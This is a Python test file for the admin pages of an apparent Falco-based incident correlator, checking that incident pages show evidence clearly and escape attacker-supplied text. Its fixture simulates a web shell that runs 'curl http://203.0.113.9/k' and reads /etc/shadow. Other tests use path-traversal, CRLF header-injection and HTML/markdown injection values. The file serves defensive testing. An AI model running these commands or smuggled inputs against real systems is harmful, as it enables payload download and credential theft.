"""Pages: what is on them, and that nothing of an attacker is more than text.

Covers: `incidents.view`, `incidents.lookup`, `admin.pages.markdown`, `admin.pages.picture`, `admin.pages.request`,
`admin.pages.times`.
"""

import html
import re
from collections.abc import Callable

import pytest
from conftest import Play, spec
from msgspec.structs import replace
from support.injections import INJECTIONS

from sidecar.admin import pages
from sidecar.admin.pages import times
from sidecar.admin.pages.markdown import markdown
from sidecar.admin.pages.picture import picture
from sidecar.admin.pages.request import View
from sidecar.admin.pages.request import view as seen_by
from sidecar.cli.testing.stories import BEGIN
from sidecar.incidents import lookup, view
from sidecar.model import Notification
from sidecar.net.http_server import Request
from sidecar.storage.archive import IncidentFilter, in_memory
from sidecar.text import escape, mitre

NOW = BEGIN + 180_000_000_000


@pytest.fixture
def note(play: Play) -> Notification:
    return play(
        spec("tini > nginx > sh", "web_shell"),
        spec("tini > nginx > sh > curl", "network", at="1s", fields={"proc.cmdline": "curl http://203.0.113.9/k"}),
        spec("tini > nginx > sh > cat", "credential", at="2s", fields={"fd.name": "/etc/shadow"}),
    )[-1]


def page(note: Notification, **more: object) -> str:
    return pages.detail(replace(view.from_notification(note, (), NOW), **more), NOW).decode()


def listed(note: Notification, wanted: IncidentFilter | None = None, total: int = 1) -> str:
    kept = in_memory()
    kept.put(note, step=True)
    rows = [view.summary(row, NOW) for row in kept.listed(IncidentFilter(), NOW)[0]]
    return pages.listing(
        view.Page(total, 1, 0, rows), wanted or IncidentFilter(), NOW, View(query="state=open")
    ).decode()


def text_of(source: str) -> str:
    body = source[source.index("<main") :]
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", body)).split())


def test_the_page_says_what_happened_where_how_sure_and_what_to_do(note: Notification) -> None:
    text = text_of(page(note))

    for words in (
        "Critical Open last evidence 2 min ago, 24 Nov 2026, 03:03:10 UTC Full Web Application Compromise",
        "In pod shop/app-7d9f, nginx ran",
        "Web shell Seen at +0.000 s, 1 detection",
        "Shell technique Not seen",
        "curl http://203.0.113.9/k",
        "nginx \u203a sh \u203a cat",
        "Credentials /etc/shadow",
        "Addresses in commands http://203.0.113.9/k",
        "kubectl -n shop patch pod app-7d9f",
    ):
        assert words in text


def test_all_nine_next_steps_are_there_and_have_no_placeholder_left(note: Notification) -> None:
    source = page(note)

    assert [step.number for step in view.from_notification(note).triage] == [1, 2, 3, 4, 5, 6, 7, 8, 9]
    assert all(step.do in text_of(source) for step in view.from_notification(note).triage)
    assert re.findall(r"\{[a-z_]+\}", text_of(source)) == []


def test_the_list_says_how_it_rose_and_pages_on_with_the_same_filter(note: Notification) -> None:
    source = listed(note, IncidentFilter(limit=1), total=2)

    assert "2 incidents, 1 to 1" in text_of(source)
    assert 'href="/?state=open&amp;offset=1"' in source


def test_missing_evidence_and_the_incident_before_are_told(note: Notification) -> None:
    source = page(note, incomplete=True, previous="0123456789abcdef")

    assert "Falco dropped events while this incident was open" in source
    assert 'href="/incidents/0123456789abcdef"' in source


def test_the_report_needs_nothing_beside_it_and_has_no_script(note: Notification) -> None:
    source = pages.report(view.from_notification(note, (), NOW), NOW).decode()

    assert "<script" not in source
    assert re.findall(r'(?:href|src|action)="(?!#|data:)', source) == []


def test_no_page_has_inline_handlers_or_styles(note: Notification) -> None:
    for source in (page(note), listed(note), pages.problem("400 Bad Request", "x").decode()):
        assert re.findall(r"<[^>]+\s(?:on[a-z]+|style)=", source) == []


def hostile(note: Notification, text: str) -> Notification:
    where = note.where._replace(host=text, namespace=text, pod=text, container_name=text, image=text)
    timeline = tuple(
        (replace(one, rule=text, cmdline=text, detail=text, path=((7, text), *one.path[1:])), groups)
        for one, groups in note.timeline
    )
    return replace(note, where=where, timeline=timeline, summary=text, tags=(text,), triage=((text, text),))


def reported(note: Notification) -> str:
    return pages.report(view.from_notification(note, (), NOW), NOW).decode()


def tags(source: str) -> list[str]:
    return re.findall(r"<(/?[a-z][a-z0-9]*)", source)


@pytest.mark.parametrize("made", [page, listed, reported])
def test_what_an_attacker_wrote_is_escaped_wherever_it_stands(
    note: Notification, made: Callable[[Notification], str]
) -> None:
    usual = {is_link: tags(made(hostile(note, "http://usual" if is_link else "usual"))) for is_link in (True, False)}
    for text in INJECTIONS:
        source = made(hostile(note, text))
        assert tags(source) == usual[bool(re.search("(?:https?|ftp|tcp)://", text))]
        assert text == escape.terminal(text) or text not in html.unescape(source)
        assert html.escape(escape.terminal(text)) in source.replace("&#34;", "&quot;").replace("&#39;", "&#x27;")


@pytest.mark.parametrize(
    ("seconds", "expected"), [(0.04, "+0.040 s"), (59.96, "+60.0 s"), (185.0, "+3 min 5 s"), (7260.0, "+2 h 1 min")]
)
def test_relative_times_are_short(seconds: float, expected: str) -> None:
    assert times.after(seconds) == expected


@pytest.mark.parametrize(
    ("seconds", "expected"),
    [(-5, "0 s ago"), (59, "59 s ago"), (3599, "59 min ago"), (90_000, "25 h ago"), (180_000, "2 d ago")],
)
def test_ages_are_short(seconds: int, expected: str) -> None:
    assert times.ago("2026-11-24T00:00:00.123456789Z", 1_795_478_400_000_000_000 + seconds * 1_000_000_000) == expected


def test_the_picture_has_a_lane_for_each_process_and_a_dot_for_each_moment(note: Notification) -> None:
    incident = view.from_notification(note)
    drawn = picture(incident)

    assert sum(len(lane.dots) for lane in drawn.lanes) == len(incident.timeline)
    assert [lane.depth for lane in drawn.lanes][:2] == [0, 1]
    assert all(4 <= dot.x <= 96 for lane in drawn.lanes for dot in lane.dots)
    source = pages.detail(incident, 0).decode()
    assert source.count("<circle") == len(incident.timeline) + len(drawn.legend)
    assert 'role="img" aria-labelledby="picture-title picture-words"' in source


def test_techniques_lead_to_their_pages_of_attack() -> None:
    assert mitre.url("T1059.004") == "https://attack.mitre.org/techniques/T1059/004/"
    assert mitre.url("T1190") == "https://attack.mitre.org/techniques/T1190/"
    assert mitre.url("webrce_incident") == ""


def test_the_report_as_markdown_shows_hostile_text_as_text(note: Notification) -> None:
    hostile = replace(note, summary="# a [link](http://x) <img src=x>")
    (first, groups), *_ = note.timeline
    hostile = replace(hostile, timeline=((replace(first, cmdline="``` ```` \n# no heading"), groups),))

    told = markdown(view.from_notification(hostile))

    assert "\\# a \\[link\\]\\(http\\://x\\) \\<img src=x\\>" in told
    assert "    `````text\n" in told
    assert "\n# no heading" not in told


def test_a_column_sorts_the_list_with_the_same_filter_and_turns_it_round(note: Notification) -> None:
    source = listed(note, IncidentFilter(sort="severity"))

    assert 'aria-sort="descending"><a href="/?state=open&amp;sort=severity&amp;order=asc">Severity' in source
    assert '<a href="/?state=open&amp;sort=last">Last evidence' in source


def test_each_moment_has_the_alert_behind_it_with_its_user(note: Notification) -> None:
    text = text_of(page(note))

    assert text.count("Alert: ") == len(note.timeline)
    assert "fd.name: /etc/shadow" in text
    assert "as www-data" in text


def test_a_moment_whose_alert_is_no_longer_kept_says_so(note: Notification) -> None:
    timeline = tuple((replace(each, packed=b""), groups) for each, groups in note.timeline)

    assert text_of(page(replace(note, timeline=timeline))).count("the alert is no longer kept") == len(timeline)


def test_techniques_and_tactics_have_their_names(note: Notification) -> None:
    text = text_of(page(replace(note, tags=("T1505.003", "T1059.004", "mitre_persistence", "webrce_incident"))))

    assert "MITRE ATT&CK Persistence T1059.004 Unix Shell T1505.003 Web Shell Tags" in text


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("UTC", "24 Nov 2026, 03:03:10 UTC"),
        ("Europe/Berlin", "24 Nov 2026, 04:03:10 CET"),
        ("-09:30", "23 Nov 2026, 17:33:10 UTC-09:30"),
    ],
)
def test_times_are_in_the_zone_of_the_reader(note: Notification, name: str, expected: str) -> None:
    zone = times.zone(name)
    assert zone is not None
    source = pages.detail(view.from_notification(note, (), NOW), NOW, View(zone=zone, zone_name=name)).decode()

    assert expected in text_of(source)
    assert f'<time datetime="{view.from_notification(note).last}">' in source


@pytest.mark.parametrize("name", ["Nowhere/Land", "../../etc/passwd", "/etc/passwd", "+99:00", "UTC\r\nX: y", "x" * 99])
def test_a_zone_that_is_none_is_unknown(name: str) -> None:
    assert times.zone(name) is None


def asked(path: str, cookie: str = "") -> View:
    return seen_by(Request("GET", path, b"", cookie=cookie))


def test_the_choice_of_a_zone_is_in_a_cookie_and_out_of_the_address() -> None:
    chosen = asked("/?q=x&tz=Europe/Berlin&refresh=30")

    assert (chosen.zone_name, chosen.chose_zone, chosen.query) == ("Europe/Berlin", True, "q=x")
    assert chosen.link() == "/?q=x&refresh=30"
    assert times.to_cookie(chosen.zone_name).startswith("Set-Cookie: tz=Europe/Berlin; Path=/; ")
    assert asked("/", "a=b; tz=Europe/Berlin").zone_name == "Europe/Berlin"


def test_an_unknown_zone_is_told_and_times_stay_in_utc() -> None:
    unknown = asked("/?tz=Nowhere")

    assert (unknown.zone_name, unknown.chose_zone) == ("UTC", False)
    assert "That time zone is unknown here" in pages.problem("404 Not Found", "x", unknown).decode()


@pytest.mark.parametrize(("query", "header"), [("", ""), ("refresh=30", "Refresh: 30\r\n"), ("refresh=1", "")])
def test_a_page_is_loaded_again_only_if_its_reader_wants_it(query: str, header: str) -> None:
    assert asked(f"/incidents/5dba?{query}").headers == header


def test_the_list_counts_severities_and_draws_when_they_were(note: Notification) -> None:
    kept = in_memory()
    kept.put(note, step=True)
    found = lookup.page(kept, IncidentFilter(), NOW)
    source = pages.listing(found, IncidentFilter(), NOW, View()).decode()

    assert "Critical 1 High 0 Medium 0 Low 0" in text_of(source)
    assert 'aria-label="1 critical from 24 Nov, 03:03"' in source
    assert 'href="/?since=2026-11-24T03%3A03%3A00Z&amp;until=' in source


def test_what_is_searched_is_shown_and_can_be_removed(note: Notification) -> None:
    empty = view.Page(0, 50, 0, [])
    wanted = IncidentFilter(terms=(("address", "203.0.113.9"),))
    source = pages.listing(empty, wanted, NOW, View(query="address=203.0.113.9&state=open")).decode()

    assert '<a class="button" href="/?state=open">address: 203.0.113.9' in source
    assert '<input type="hidden" name="address" value="203.0.113.9">' in source
    assert "No incident matches. Remove a filter" in text_of(source)


def test_an_empty_list_says_what_to_do() -> None:
    text = text_of(pages.listing(view.Page(0, 50, 0, []), IncidentFilter(), NOW, View()).decode())

    assert "No incident so far." in text
    assert "falco-correlator incidents why POD" in text
    assert "falco-correlator doctor" in text


def test_any_choice_of_time_is_shown_as_chosen() -> None:
    source = pages.listing(view.Page(0, 50, 0, []), IncidentFilter(), NOW, View(query="since=3h")).decode()

    assert '<option value="3h" selected>Since 3h</option>' in source
